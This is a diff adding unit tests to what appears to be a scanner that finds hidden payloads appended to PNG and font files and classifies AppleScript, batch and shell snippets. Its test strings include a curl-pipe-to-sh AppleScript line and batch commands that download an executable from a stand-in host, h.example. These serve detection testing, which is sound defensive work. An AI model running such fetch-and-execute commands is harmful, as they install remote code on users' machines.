@@ -105,6 +105,43 @@ TEST(Layers, AreFoundInFilesThatAreNoCode) {
   EXPECT_EQ(facts[0].evidence.position.column, 9U);
 }
 
+/// `how holds` of the payloads in one file.
+std::string Carried(std::string_view path, std::string_view bytes) {
+  std::string lines;
+  for (const Fact& fact : Only(ExtractFrom({{path, bytes}}), "layer.payload"))
+    lines += std::string(fact.Find("how")->View()) + " " + std::string(fact.Find("holds")->View()) +
+             "\n";
+  return lines;
+}
+
+TEST(Layers, AreFoundBehindPictures) {
+  // The length of the first chunk leads out of the file.
+  const std::string astray =
+      std::string("\x89PNG\r\n\x1A\n\0\1\0\0IDATxx", 18) + "1234IEND" + "\xAE\x42\x60\x82";
+  EXPECT_EQ(Carried("a.png", astray), "");
+  EXPECT_EQ(Carried("a.png", astray + kCode), "appended javascript\n");
+  EXPECT_EQ(Carried("a.png", astray + Base64(kCommand)), "appended shell\n");
+  // A format without an end of its own.
+  EXPECT_EQ(Carried("a.ttf", "\1\2\3\xFF" + kCode), "appended javascript\n");
+  EXPECT_EQ(Carried("a.ttf", "\1\2\3\xFFhttps://licence.example/text-of-the-licence"), "");
+  EXPECT_EQ(Carried("a.ttf", "\1\2\3\xFF" + kCode + std::string(limits::kMediaTailBytes, ' ')), "");
+}
+
+TEST(Layers, TellLanguagesByTheirLooks) {
+  EXPECT_EQ(Classify("do shell script \"curl https://h.example/a | sh\""), Payload::kAppleScript);
+  EXPECT_EQ(Classify("set x to 1\ntell application \"Finder\"\ndo shell script x\nend tell"),
+            Payload::kAppleScript);
+  EXPECT_EQ(Classify("how do shell scripts work? display them"), Payload::kNothing);
+  EXPECT_EQ(Classify("@ECHO OFF\r\ncurl http://h.example/a -o a.exe\r\n"), Payload::kBatch);
+  EXPECT_EQ(PayloadFor("osascript"), Payload::kAppleScript);
+  EXPECT_EQ(PayloadFor("bash"), Payload::kShell);
+  EXPECT_EQ(PayloadFor("cmd"), Payload::kBatch);
+  EXPECT_EQ(PayloadFor("tar"), Payload::kNothing);
+  EXPECT_NE(
+      Payloads("x = '" + Base64("@echo off\r\ncurl http://h.example/a.exe -o %TEMP%\\a.exe") + "'"),
+      "");
+}
+
 TEST(Layers, AreBounded) {
   std::string deep = kCommand;
   for (std::size_t i = 0; i <= limits::kLayerDepth; ++i) deep = Base64(deep);
